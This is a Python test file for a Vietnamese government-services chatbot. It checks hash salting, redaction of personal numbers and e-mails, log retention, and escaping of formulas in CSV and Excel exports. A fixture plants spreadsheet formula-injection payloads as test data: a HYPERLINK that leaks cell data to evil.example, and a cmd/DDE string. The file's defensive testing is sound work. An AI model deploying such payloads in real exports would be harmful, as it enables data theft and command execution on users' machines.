"""What the bot keeps about people (issue 15, item 12): a random per-installation salt, personal numbers and e-mail
addresses redacted before storing, a retention after which rows are deleted, and CSV exports that a spreadsheet
cannot run as formulas."""
from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import subprocess
import sys
from contextlib import closing
from datetime import datetime, timedelta, timezone

import pytest

from conftest_channels import ROOT, make_settings, new_conversation, shared_index  # noqa: F401
from handlers.conversation import Incoming
from handlers.privacy import redact
from handlers.usage_log import UsageLog, installation_salt, user_hash

PERSONAL = ("Tôi là Nguyễn Văn A, CCCD 001098012345, CMND 123 456 789, điện thoại 0912 345 678 hoặc +84912345679, "
            "email nguyenvana@gmail.com: thủ tục đăng ký khai sinh cần giấy tờ gì?")


def msg(text, user="501"):
    return Incoming("telegram", user, user, "Nguyễn Văn A", text, None, "text")


def _log_rows(path):
    with closing(sqlite3.connect(path)) as db:
        return db.execute("select ts, user_hash, question from usage_log order by id").fetchall()


async def test_salt_is_random_per_installation_and_kept(tmp_path):
    hashes = []
    for install in ("a", "b"):
        settings = make_settings(tmp_path, BOT_USER_HASH_SALT="")  # nothing configured
        for restart in range(2):
            conv = new_conversation(settings, tmp_path / install)
            try:
                await conv.handle(msg("/start", user="8642097531"))
            finally:
                conv.close()
        rows = _log_rows(tmp_path / install / "bot.db")
        assert len(rows) == 2 and rows[0][1] == rows[1][1]  # stable across a restart
        hashes.append(rows[0][1])
        salt_file = tmp_path / install / "user_hash_salt"
        assert stat.S_IMODE(os.stat(salt_file).st_mode) == 0o600
        salt = salt_file.read_text()
        assert len(salt) == 64 and rows[0][1] == user_hash("telegram", "8642097531", salt)
    assert hashes[0] != hashes[1]  # two installations: unrelated hashes of the same person
    for public in ("", "cchc-bot", "change-me"):
        assert user_hash("telegram", "8642097531", public) not in hashes
    # an operator's own secret salt is used as given
    assert installation_salt(tmp_path / "c", "my-own-long-secret") == "my-own-long-secret"
    assert not (tmp_path / "c" / "user_hash_salt").exists()


async def test_personal_numbers_and_emails_are_redacted_before_storing(tmp_path):
    conv = new_conversation(make_settings(tmp_path), tmp_path)
    try:
        await conv.handle(msg(PERSONAL))
        await conv.handle(msg("/diaban 0912345678"))  # commands are logged too
    finally:
        conv.close()
    stored = " ".join(q for _, _, q in _log_rows(tmp_path / "bot.db"))
    for secret in ("001098012345", "123 456 789", "0912 345 678", "0912345678", "84912345679", "nguyenvana",
                   "gmail"):
        assert secret not in stored
    assert "[số giấy tờ]" in stored and "[số điện thoại]" in stored and "[email]" in stored
    assert "thủ tục đăng ký khai sinh cần giấy tờ gì?" in stored  # the question itself is kept


def test_redaction_keeps_what_questions_are_about():
    kept = ("Kế hoạch 141/KH-UBND ngày 30/6/2026: thủ tục 1.004227 và 2.002163.000.00.00.H12, lệ phí 84.000.000 "
            "đồng, giai đoạn 2021-2025, tỷ lệ 0,5%, mã nhiệm vụ 37fe96c24223")
    assert redact(kept) == kept


def test_rows_older_than_the_retention_are_deleted(tmp_path):
    now = datetime(2026, 6, 1, tzinfo=timezone.utc)
    clock = {"t": now.timestamp()}
    log = UsageLog(tmp_path / "u.db", "salt", retention_days=90, clock=lambda: clock["t"])
    with closing(sqlite3.connect(tmp_path / "u.db")) as db, db:
        for days in (200, 91, 89, 1):
            ts = (now - timedelta(days=days)).isoformat(timespec="seconds")
            db.execute("insert into usage_log (ts, channel, user_hash, kind, question) values (?, 'zalo', 'h', "
                       "'question', ?)", (ts, f"{days} ngày trước"))
    UsageLog(tmp_path / "u.db", "salt", retention_days=90, clock=lambda: clock["t"])  # a (re)start purges
    assert [q for _, _, q in _log_rows(tmp_path / "u.db")] == ["89 ngày trước", "1 ngày trước"]
    clock["t"] += 2 * 24 * 3600  # two days later, the running process purges again when it next writes
    log.record(channel="zalo", user_id="u", kind="question", question="mới")
    assert [q for _, _, q in _log_rows(tmp_path / "u.db")] == ["1 ngày trước", "mới"]


@pytest.fixture
def data_with_a_hostile_task(index_copy):
    data = index_copy
    with closing(sqlite3.connect(data / "cchc.db")) as db, db:
        row = db.execute("select * from tasks limit 1").fetchone()
        cols = [d[0] for d in db.execute("select * from tasks limit 1").description]
        task = dict(zip(cols, row))
        task.update(id="hostile0001", title='=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
                    lead=json.dumps(["+cmd|' /C calc'!A0"]), deadline_text="-2+3", output="@SUM(1,1)")
        db.execute(f"insert into tasks ({','.join(cols)}) values ({','.join('?' * len(cols))})",
                   [task[c] for c in cols])
    return data


def test_csv_export_escapes_formula_cells(data_with_a_hostile_task, tmp_path):
    out = subprocess.run([sys.executable, "-m", "bot", "--data-dir", str(data_with_a_hostile_task), "tasks", "--csv"],
                         cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True,
                         timeout=300)
    assert out.returncode == 0, out.stderr[-2000:]
    rows = list(csv.DictReader(io.StringIO(out.stdout.lstrip("\ufeff"))))
    [hostile] = [r for r in rows if r["id"] == "hostile0001"]
    assert hostile["title"].startswith("'=HYPERLINK(")
    assert hostile["lead"].startswith("'+cmd")
    assert hostile["deadline_text"] == "'-2+3" and hostile["output"] == "'@SUM(1,1)"
    for r in rows:  # no cell of any row can start a formula
        assert not any(v and v[0] in "=+-@\t\r" for v in r.values()), r
    # the Excel export keeps the text as text, not as a formula openpyxl would write
    from openpyxl import load_workbook

    xlsx = tmp_path / "tasks.xlsx"
    out = subprocess.run([sys.executable, "-m", "bot", "--data-dir", str(data_with_a_hostile_task), "tasks", "--xlsx",
                          str(xlsx)], cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True,
                         text=True, timeout=300)
    assert out.returncode == 0, out.stderr[-2000:]
    sheet = load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[header.index("id")].value == "hostile0001"]
    title = row[header.index("title")]
    assert title.data_type == "s" and title.value.startswith("=HYPERLINK(")
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
